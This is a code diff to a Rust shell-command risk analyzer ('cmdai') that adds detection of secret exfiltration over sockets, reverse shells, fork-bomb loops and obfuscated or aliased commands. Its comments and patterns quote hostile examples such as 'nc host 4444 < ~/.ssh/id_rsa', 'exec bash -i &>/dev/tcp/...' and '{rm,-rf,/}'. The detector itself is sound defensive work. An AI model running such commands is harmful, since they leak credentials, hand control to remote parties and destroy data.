@@ -101,6 +101,10 @@ pub(super) struct Arg {
     pub from_decode: bool,
     /// The one local program whose output the run-time part is (`$(starship init bash)`).
     pub generated_by: Option<String>,
+    /// Whether the run-time part carries keys, credentials or the environment.
+    pub from_secret: bool,
+    /// Whether the run-time part is every process id on the machine (`$(ps -eo pid=)`).
+    pub all_pids: bool,
 }
 
 impl Arg {
@@ -108,15 +112,25 @@ impl Arg {
         self.dynamic_at.is_none()
     }
 
-    /// An argument that stands for data arriving at run time (xargs' input).
-    pub fn input(span: Span) -> Self {
+    /// A word whose text is known.
+    pub fn literal(text: String, span: Span) -> Self {
         Self {
-            text: "<input>".into(),
+            text,
             span,
-            dynamic_at: Some(0),
+            dynamic_at: None,
             from_download: false,
             from_decode: false,
             generated_by: None,
+            from_secret: false,
+            all_pids: false,
+        }
+    }
+
+    /// An argument that stands for data arriving at run time (xargs' input).
+    pub fn input(span: Span) -> Self {
+        Self {
+            dynamic_at: Some(0),
+            ..Self::literal("<input>".into(), span)
         }
     }
 }
@@ -133,11 +147,44 @@ pub(super) enum Input {
 /// What a pipeline stage produces, as far as the next stage cares.
 #[derive(Clone, Debug)]
 pub(super) enum Stage {
+    /// Data from the network: a download, or what a socket (`nc host port`) receives.
     Download,
-    Decode,
+    /// Text decoded at run time; what it decodes to, when the input is literal.
+    Decode(Option<String>),
     /// `echo`/`printf` of literal text.
     Echo(String, Span),
+    /// Keys, credentials or the environment (`cat ~/.ssh/id_rsa`, `tar c ~/.aws`, `env`).
+    Secret,
+    /// Every process on the machine, one a line (`ps -e`, `ps aux`).
+    AllProcesses,
+    /// Keeps only some lines of its input (`grep`, `awk '/x/'`, `head`).
+    Filter,
+    /// A shell that reads commands from its input or a terminal (`sh -i`).
+    Shell,
+    /// Output without end (`yes`, `cat /dev/zero`).
+    Endless,
     Other,
+}
+
+impl Stage {
+    /// The text this stage prints, when cmdai can know it.
+    pub fn output(&self) -> Option<&str> {
+        match self {
+            Self::Echo(text, _) | Self::Decode(Some(text)) => Some(text),
+            _ => None,
+        }
+    }
+}
+
+/// Whether a pipeline's stages deliver every process id: a full listing with no filter after it.
+pub(super) fn all_processes(stages: &[Stage]) -> bool {
+    match stages
+        .iter()
+        .rposition(|s| matches!(s, Stage::AllProcesses))
+    {
+        Some(at) => !stages[at + 1..].iter().any(|s| matches!(s, Stage::Filter)),
+        None => false,
+    }
 }
 
 /// A simple command ready to be judged.
@@ -182,6 +229,12 @@ pub(super) struct Summary {
     pub decode: bool,
     /// Programs run, by base name.
     pub programs: Vec<String>,
+    /// Whether secrets are read (and so are in the output).
+    pub secret: bool,
+    /// What the code prints, when cmdai can know it (`$(echo rm)`).
+    pub output: Option<String>,
+    /// Whether the output is every process id.
+    pub all_pids: bool,
 }
 
 pub(super) struct Walker<'a> {
@@ -201,6 +254,25 @@ pub(super) struct Walker<'a> {
     current: Vec<String>,
     /// A redirection to `/dev/tcp/...` seen on the simple command being read.
     network_redirect: Option<Span>,
+    /// Whether the command opened a network socket (`exec 3<>/dev/tcp/...`) earlier.
+    pub socket_opened: bool,
+    /// Aliases defined earlier in the command: name and replacement text.
+    pub aliases: HashMap<String, String>,
+    /// Where `cd` went earlier in the command, when that is known.
+    pub cwd: Option<String>,
+    /// Files the simple command being read writes its output to (`> x.sh`).
+    pub output_files: Vec<Arg>,
+    /// The output of the last pipeline walked.
+    last_output: Option<String>,
+    /// Functions defined earlier in the command, with their bodies' text.
+    pub function_bodies: HashMap<String, String>,
+    /// Functions being expanded now (a function that calls itself is not expanded again).
+    pub expanding: Vec<String>,
+    /// Output redirections seen so far.
+    pub writes: usize,
+    /// Files the command wrote known text into (`echo "rm -rf /" > x.sh`), by path.
+    pub written: HashMap<String, String>,
+    last_all_pids: bool,
 }
 
 /// Analyses `source`, returning every finding that the user's allow rules leave.
@@ -219,6 +291,16 @@ pub(super) fn analyze(source: &str, rules: &RuleSet, user: &UserRules) -> Vec<Fi
         summaries: vec![Summary::default()],
         current: Vec::new(),
         network_redirect: None,
+        socket_opened: false,
+        aliases: HashMap::new(),
+        cwd: None,
+        output_files: Vec::new(),
+        last_output: None,
+        last_all_pids: false,
+        function_bodies: HashMap::new(),
+        expanding: Vec::new(),
+        writes: 0,
+        written: HashMap::new(),
     };
     let frame = Frame {
         text: source.to_owned(),
@@ -321,10 +403,13 @@ impl Walker<'_> {
                 }
             }
         }
-        let summary = self.summaries.pop().unwrap_or_default();
+        let mut summary = self.summaries.pop().unwrap_or_default();
+        summary.output = self.last_output.take();
+        summary.all_pids = std::mem::take(&mut self.last_all_pids);
         if let Some(parent) = self.summaries.last_mut() {
             parent.download |= summary.download;
             parent.decode |= summary.decode;
+            parent.secret |= summary.secret;
             parent.programs.extend(summary.programs.iter().cloned());
         }
         summary
@@ -360,6 +445,13 @@ impl Walker<'_> {
             upstream.push(stage);
         }
         self.in_multi_pipeline = saved;
+        if upstream.iter().any(|s| matches!(s, Stage::Secret)) {
+            if let Some(summary) = self.summaries.last_mut() {
+                summary.secret = true;
+            }
+        }
+        self.last_all_pids = all_processes(&upstream);
+        self.last_output = upstream.last().and_then(Stage::output).map(str::to_owned);
     }
 
     fn command(&mut self, command: &Command, frame: &Frame, stdin: Input) -> Stage {
@@ -371,11 +463,28 @@ impl Walker<'_> {
                         self.redirect(redirect, frame);
                     }
                 }
+                self.last_output = None;
                 self.compound(compound, frame);
-                Stage::Other
+                // `(crontab -l; echo '* * * * * job') | crontab -`: a group's known output is
+                // what its last pipeline printed.
+                let grouped = matches!(
+                    compound,
+                    CompoundCommand::BraceGroup(_) | CompoundCommand::Subshell(_)
+                );
+                match self.last_output.take() {
+                    Some(text) if grouped => {
+                        let span = self.span(frame, compound.location());
+                        Stage::Echo(text, span)
+                    }
+                    _ => Stage::Other,
+                }
             }
             Command::Function(function) => {
                 let name = function.fname.value.clone();
+                self.function_bodies
+                    .insert(name.clone(), function.body.to_string());
+                let span = self.span(frame, function.location());
+                self.shadowing(&name, &function.body.to_string(), span);
                 self.functions.push(name);
                 self.compound(&function.body.0, frame);
                 self.functions.pop();
@@ -390,14 +499,29 @@ impl Walker<'_> {
             CompoundCommand::BraceGroup(group) => self.compound_list(&group.list, frame),
             CompoundCommand::Subshell(subshell) => self.compound_list(&subshell.list, frame),
             CompoundCommand::ForClause(clause) => {
-                for word in clause.values.iter().flatten() {
-                    self.word(word, frame);
+                let values: Vec<Arg> = clause
+                    .values
+                    .iter()
+                    .flatten()
+                    .flat_map(|word| self.expanded_word(word, frame))
+                    .collect();
+                // The body is judged with each value the loop variable takes (a few at most):
+                // `for f in /etc/*.conf; do mv "$f" ...`.
+                if !values.is_empty() && values.len() <= 4 && values.iter().all(Arg::is_literal) {
+                    for value in values {
+                        self.vars.insert(clause.variable_name.clone(), value.text);
+                        self.compound_list(&clause.body.list, frame);
+                    }
+                } else {
+                    self.vars.remove(&clause.variable_name);
+                    self.compound_list(&clause.body.list, frame);
                 }
                 self.vars.remove(&clause.variable_name);
-                self.compound_list(&clause.body.list, frame);
             }
             CompoundCommand::ArithmeticForClause(clause) => {
-                self.compound_list(&clause.body.list, frame)
+                let endless = clause.condition.is_none();
+                let span = self.span(frame, compound.location());
+                self.endless_loop(endless, &clause.body.list, span, frame);
             }
             CompoundCommand::CaseClause(clause) => {
                 self.word(&clause.value, frame);
@@ -419,7 +543,16 @@ impl Walker<'_> {
             }
             CompoundCommand::WhileClause(clause) | CompoundCommand::UntilClause(clause) => {
                 self.compound_list(&clause.0, frame);
-                self.compound_list(&clause.1.list, frame);
+                let condition = clause.0.to_string();
+                let condition = condition.trim().trim_end_matches(';').trim();
+                let endless = match compound {
+                    CompoundCommand::WhileClause(_) => {
+                        matches!(condition, "true" | ":" | "[ 1 ]" | "((1))" | "/bin/true" | "[ true ]")
+                    }
+                    _ => matches!(condition, "false" | "/bin/false"),
+                };
+                let span = self.span(frame, compound.location());
+                self.endless_loop(endless, &clause.1.list, span, frame);
             }
             CompoundCommand::Coprocess(coprocess) => {
                 self.command(&coprocess.body, frame, Input::Terminal);
@@ -428,31 +561,119 @@ impl Walker<'_> {
         }
     }
 
+    /// A loop body; a loop that never ends and starts background jobs or writes files
+    /// without pause is a fork bomb or fills the disk.
+    fn endless_loop(&mut self, endless: bool, body: &CompoundList, span: Span, frame: &Frame) {
+        let writes_before = self.writes;
+        self.compound_list(body, frame);
+        if !endless {
+            return;
+        }
+        // A pause in the foreground (not in what is sent to the background) paces the loop.
+        let paced = body.0.iter().any(|item| {
+            let text = item.0.to_string();
+            !matches!(item.1, SeparatorOperator::Async)
+                && ["sleep", "wait", "read ", "inotifywait", "break", "exit"]
+                    .iter()
+                    .any(|w| text.contains(w))
+        });
+        if paced {
+            return;
+        }
+        if body.0.iter().any(|item| matches!(item.1, SeparatorOperator::Async)) {
+            self.report(
+                RiskLevel::Critical,
+                Category::Resources,
+                span,
+                "a loop without end that starts a background process each time (a fork bomb): it fills the process table and hangs the machine",
+            );
+        } else if self.writes > writes_before {
+            self.report(
+                RiskLevel::High,
+                Category::Resources,
+                span,
+                "a loop without end that writes files each time: it fills the disk",
+            );
+        }
+    }
+
     /// Resolves a word, walking any command substitutions in it.
     fn word(&mut self, word: &ast::Word, frame: &Frame) -> Arg {
+        self.resolved_word(word, frame).0
+    }
+
+    /// Resolves a word; also says whether the shell splits it into fields (an unquoted
+    /// expansion). The output of a substitution whose output cmdai knows (`$(echo rm)`,
+    /// `$(echo cm0= | base64 -d)`) takes its place.
+    fn resolved_word(&mut self, word: &ast::Word, frame: &Frame) -> (Arg, bool) {
         let span = self.span(frame, word.loc.clone());
         let resolved = words::resolve(&word.value, &self.vars);
         let mut arg = Arg {
-            text: resolved.text,
-            span,
             dynamic_at: resolved.dynamic_at,
-            from_download: false,
-            from_decode: false,
-            generated_by: None,
+            ..Arg::literal(resolved.text, span)
         };
+        let mut outputs = Vec::new();
         for code in &resolved.substitutions {
             let nested = self.nested(frame, code, span, false);
             let summary = self.code(&nested);
             arg.from_download |= summary.download;
             arg.from_decode |= summary.decode;
+            arg.from_secret |= summary.secret;
+            arg.all_pids |= summary.all_pids;
             if let ([program], 1) = (summary.programs.as_slice(), resolved.substitutions.len()) {
                 arg.generated_by = Some(program.clone());
             }
+            outputs.push(summary.output);
         }
-        arg
+        let all_known = !outputs.is_empty()
+            && resolved.dynamic_parts == outputs.len()
+            && outputs.iter().all(Option::is_some);
+        if all_known {
+            let mut text = arg.text.clone();
+            let mut from = arg.dynamic_at.unwrap_or(0);
+            for output in outputs.into_iter().flatten() {
+                let Some(at) = text[from..].find("$(...)").map(|at| at + from) else {
+                    break;
+                };
+                let output = output.trim_end_matches('\n');
+                text.replace_range(at..at + "$(...)".len(), output);
+                from = at + output.len();
+            }
+            arg.text = text;
+            arg.dynamic_at = None;
+        }
+        (arg, resolved.splits)
+    }
+
+    /// A word as the shell hands it to the program: brace lists (`{rm,-rf,/}`) expanded and
+    /// unquoted expansions of known text split into fields (`c="rm -rf /"; $c`).
+    fn expanded_word(&mut self, word: &ast::Word, frame: &Frame) -> Vec<Arg> {
+        if let Some(parts) = words::brace_words(&word.value) {
+            let span = self.span(frame, word.loc.clone());
+            return parts
+                .into_iter()
+                .map(|text| Arg::literal(text, span))
+                .collect();
+        }
+        let (arg, splits) = self.resolved_word(word, frame);
+        if !splits || !arg.is_literal() {
+            return vec![arg];
+        }
+        let fields = words::split_fields(&arg.text, self.vars.get("IFS").map(String::as_str));
+        if fields.len() == 1 && fields[0] == arg.text {
+            return vec![arg];
+        }
+        fields
+            .into_iter()
+            .map(|text| Arg {
+                text,
+                ..arg.clone()
+            })
+            .collect()
     }
 
     fn simple(&mut self, simple: &ast::SimpleCommand, frame: &Frame, mut stdin: Input) -> Stage {
+        let outer_files = std::mem::take(&mut self.output_files);
         let prefix = simple
             .prefix
             .iter()
@@ -469,22 +690,39 @@ impl Walker<'_> {
         let mut assignments = Vec::new();
         for (item, in_prefix) in items {
             match item {
-                CommandPrefixOrSuffixItem::Word(word) => args.push(self.word(word, frame)),
+                CommandPrefixOrSuffixItem::Word(word) => {
+                    args.extend(self.expanded_word(word, frame))
+                }
                 // After the name, `of=/dev/sda` is an argument (dd's), though `export x=rm`
                 // also assigns.
                 CommandPrefixOrSuffixItem::AssignmentWord(assignment, word) => {
                     if !in_prefix {
                         args.push(self.word(word, frame));
                     }
-                    let value = match &assignment.value {
-                        ast::AssignmentValue::Scalar(value) => Some(self.word(value, frame)),
-                        ast::AssignmentValue::Array(_) => {
-                            self.word(word, frame);
-                            None
+                    let (key, value) = match &assignment.value {
+                        ast::AssignmentValue::Scalar(value) => (None, Some(self.word(value, frame))),
+                        ast::AssignmentValue::Array(elements) => {
+                            // `cmd=(rm -rf /)`: kept as the elements joined, for `"${cmd[@]}"`.
+                            let values: Vec<Arg> = elements
+                                .iter()
+                                .map(|(_, element)| self.word(element, frame))
+                                .collect();
+                            let literal = values.iter().all(Arg::is_literal);
+                            let joined = values
+                                .iter()
+                                .map(|v| v.text.as_str())
+                                .collect::<Vec<_>>()
+                                .join(" ");
+                            let value = literal.then(|| Arg::literal(joined, Span::new(0, 0)));
+                            (Some(true), value)
                         }
                     };
                     if let ast::AssignmentName::VariableName(name) = &assignment.name {
-                        assignments.push((name.clone(), value));
+                        let name = match key {
+                            Some(_) => words::array_key(name),
+                            None => name.clone(),
+                        };
+                        assignments.push((name, value));
                     }
                 }
                 CommandPrefixOrSuffixItem::IoRedirect(redirect) => {
@@ -502,12 +740,11 @@ impl Walker<'_> {
                     self.compound_list(&subshell.list, &nested);
                     let summary = self.summaries.pop().unwrap_or_default();
                     args.push(Arg {
-                        text: "<(...)".into(),
-                        span,
                         dynamic_at: Some(0),
                         from_download: summary.download,
                         from_decode: summary.decode,
-                        generated_by: None,
+                        from_secret: summary.secret,
+                        ..Arg::literal("<(...)".into(), span)
                     });
                 }
             }
@@ -519,13 +756,43 @@ impl Walker<'_> {
             };
         }
         let network = self.network_redirect.take();
-        let Some(name_word) = &simple.word_or_name else {
+        let name = match &simple.word_or_name {
+            Some(word) => self.expanded_word(word, frame),
+            None => Vec::new(),
+        };
+        let mut name_words = name.into_iter();
+        let Some(name) = name_words.next() else {
+            self.output_files = outer_files;
             return Stage::Other;
         };
-        let name = self.word(name_word, frame);
+        let args: Vec<Arg> = name_words.chain(args).collect();
         if let Some(span) = network {
+            self.socket_opened = true;
             let base = name.text.rsplit('/').next().unwrap_or_default();
-            if super::checks::is_shell(base) {
+            // `exec bash -i &>/dev/tcp/...`: the shell may come after a wrapper.
+            let shell = std::iter::once(base)
+                .chain(
+                    args.iter()
+                        .filter(|a| !a.text.starts_with('-'))
+                        .take(1)
+                        .map(|a| a.text.rsplit('/').next().unwrap_or_default()),
+                )
+                .any(super::checks::is_shell);
+            let probe = Invocation {
+                name: name.clone(),
+                args: args.clone(),
+                span,
+                stdin: Input::Terminal,
+                privileged: false,
+            };
+            if matches!(super::flow::stage_of(base, &probe), Stage::Secret) {
+                self.report(
+                    RiskLevel::Critical,
+                    Category::Exfiltration,
+                    span,
+                    "sends keys, credentials or environment variables over a raw network socket",
+                );
+            } else if shell {
                 let message = "connects a shell to a network socket: whoever is at the other end controls this machine";
                 self.report(RiskLevel::Critical, Category::Network, span, message);
             } else {
@@ -546,7 +813,10 @@ impl Walker<'_> {
             stdin,
             privileged: frame.privileged,
         };
-        self.invoke(invocation, frame)
+        let output_files = std::mem::replace(&mut self.output_files, outer_files);
+        let stage = self.invoke(invocation.clone(), frame);
+        self.output_written(&invocation, &stage, &output_files, frame);
+        stage
     }
 
     /// Checks a redirection; returns the standard input it provides, if it does.
@@ -558,6 +828,13 @@ impl Walker<'_> {
                     if arg.text.starts_with("/dev/tcp/") || arg.text.starts_with("/dev/udp/") {
                         self.network_redirect = Some(arg.span);
                         return None;
+                    }
+                    if matches!(kind, IoFileRedirectKind::Read)
+                        && arg.is_literal()
+                        && super::targets::holds_secrets(&arg.text)
+                    {
+                        // `nc host 4444 < ~/.ssh/id_rsa`: the secret is the standard input.
+                        return Some(Input::Pipe(vec![Stage::Secret], arg.span.start));
                     }
                     let append = matches!(kind, IoFileRedirectKind::Append);
                     let writes = matches!(
@@ -644,7 +921,7 @@ impl Walker<'_> {
         if let Some(summary) = self.summaries.last_mut() {
             summary.programs.push(base);
             summary.download |= matches!(stage, Stage::Download);
-            summary.decode |= matches!(stage, Stage::Decode);
+            summary.decode |= matches!(stage, Stage::Decode(_));
         }
         stage
     }
@@ -655,6 +932,21 @@ impl Walker<'_> {
         {
             self.fork_bomb(invocation.span);
         }
+        if let Some(replacement) = self.aliases.remove(base) {
+            // An alias defined earlier in the command: the shell runs its text instead.
+            let code = std::iter::once(replacement.as_str())
+                .chain(invocation.args.iter().map(|a| a.text.as_str()))
+                .collect::<Vec<_>>()
+                .join(" ");
+            let nested = self.nested(frame, &code, invocation.span, invocation.privileged);
+            self.code(&nested);
+            self.aliases.insert(base.to_owned(), replacement);
+            return Stage::Other;
+        }
+        if base.contains(['*', '?', '[']) && !matches!(base, "[" | "[[") {
+            self.glob_program(base, invocation, frame);
+            return Stage::Other;
+        }
         if let Some(wrapper) = self.rules.wrapper(base) {
             return self.unwrap(base, wrapper, invocation, frame);
         }
@@ -664,19 +956,53 @@ impl Walker<'_> {
                 invocation.args[0].text.as_str(),
                 "--help" | "--version" | "-h" | "-V"
             );
-        if prints_only {
+        // A dry run only says what it would do.
+        let dry_run = invocation.args.iter().any(|a| {
+            matches!(
+                a.text.as_str(),
+                "--dry-run" | "--dryrun" | "--dry-run=client" | "--dry-run=server" | "--what-if" | "-WhatIf" | "--simulate" | "--noop"
+            )
+        });
+        if prints_only || dry_run {
             return Stage::Other;
+        }
+        if let Some(body) = self
+            .function_bodies
+            .get(base)
+            .filter(|_| !self.expanding.iter().any(|f| f == base))
+            .cloned()
+        {
+            // A function defined earlier: its body runs with these arguments as $1, $2...
+            let mut code = body;
+            for (index, arg) in invocation.args.iter().enumerate().take(9).rev() {
+                let value = if arg.is_literal() { arg.text.clone() } else { "$DYNAMIC".into() };
+                code = code
+                    .replace(&format!("${{{}}}", index + 1), &value)
+                    .replace(&format!("${}", index + 1), &value);
+            }
+            let all = invocation
+                .args
+                .iter()
+                .map(|a| a.text.as_str())
+                .collect::<Vec<_>>()
+                .join(" ");
+            code = code.replace("\"$@\"", &all).replace("$@", &all).replace("$*", &all);
+            self.expanding.push(base.to_owned());
+            let nested = self.nested(frame, &code, invocation.span, invocation.privileged);
+            self.code(&nested);
+            self.expanding.pop();
         }
         let handled = self.special(base, invocation, frame);
         let matched = self.apply_rules(base, invocation);
-        if !handled
-            && !matched
-            && !self.rules.is_known(base)
-            && !self.functions.iter().any(|f| f == base)
-        {
-            self.unknown_program(invocation);
+        let is_function = self.functions.iter().any(|f| f == base);
+        let database = super::databases::client(base).is_some();
+        if matched < Some(RiskLevel::Moderate) && !is_function && !database && !self.rules.is_reader(base) {
+            self.destructive_verbs(base, invocation);
         }
-        stage_of(base, invocation)
+        if !handled && matched.is_none() && !self.rules.is_known(base) && !is_function {
+            self.unknown_program(invocation, frame);
+        }
+        super::flow::stage_of(base, invocation)
     }
 
     fn fork_bomb(&mut self, span: Span) {
@@ -691,16 +1017,16 @@ impl Walker<'_> {
         }
     }
 
-    /// Applies the first matching rule of each category; returns whether any rule matched.
-    fn apply_rules(&mut self, base: &str, invocation: &Invocation) -> bool {
+    /// Applies the first matching rule of each category; returns the highest level reported,
+    /// if any rule matched.
+    fn apply_rules(&mut self, base: &str, invocation: &Invocation) -> Option<RiskLevel> {
         let mut seen = Vec::new();
-        let mut matched = false;
+        let mut matched = None;
         for rule in self.rules.rules_for(base) {
             if seen.contains(&rule.rule.category) || !rule.matches(&invocation.args) {
                 continue;
             }
             seen.push(rule.rule.category);
-            matched = true;
             let mut level = rule.rule.level;
             let mut span = invocation.span;
             let mut message = rule.rule.message.clone();
@@ -724,51 +1050,9 @@ impl Walker<'_> {
             if invocation.privileged && level > RiskLevel::Safe && !message.contains("as root") {
                 message.push_str(" (as root)");
             }
+            matched = matched.max(Some(level));
             self.report(level, rule.rule.category, span, message);
         }
         matched
-    }
-}
-
-/// What a command feeds into the next stage of a pipeline.
-fn stage_of(base: &str, invocation: &Invocation) -> Stage {
-    let has = |flag: &str| super::rules::has_flag(&invocation.args, flag);
-    match base {
-        "curl" | "wget" | "fetch" | "http" | "https" | "xh" | "aria2c" | "lynx" | "links"
-        | "GET" | "httpie" => Stage::Download,
-        "base64" | "base32" | "basenc" if has("-d") || has("--decode") || has("-D") => {
-            Stage::Decode
-        }
-        "xxd" if has("-r") => Stage::Decode,
-        "openssl" if has("-d") => Stage::Decode,
-        "uudecode" | "gunzip" | "zcat" | "bzcat" | "xzcat" | "rev" | "gpg" => Stage::Decode,
-        "gzip" | "bzip2" | "xz" | "zstd" if has("-d") => Stage::Decode,
-        "tr" if invocation
-            .args
-            .iter()
-            .any(|a| a.text.contains("N-Z") || a.text.contains("n-z")) =>
-        {
-            Stage::Decode
-        }
-        "echo" | "printf" if invocation.args.iter().all(Arg::is_literal) => {
-            let words: Vec<&str> = invocation
-                .args
-                .iter()
-                .map(|a| a.text.as_str())
-                .skip_while(|t| base == "echo" && matches!(*t, "-n" | "-e" | "-E" | "-ne" | "-en"))
-                .collect();
-            let text = words.join(" ");
-            // printf '\x72\x6d' and echo -e '\162\155' spell commands in escapes.
-            if text.contains("\\x")
-                || text.contains("\\0")
-                || text.contains("\\1")
-                || text.contains("\\u")
-            {
-                Stage::Decode
-            } else {
-                Stage::Echo(text, invocation.span)
-            }
-        }
-        _ => Stage::Other,
     }
 }
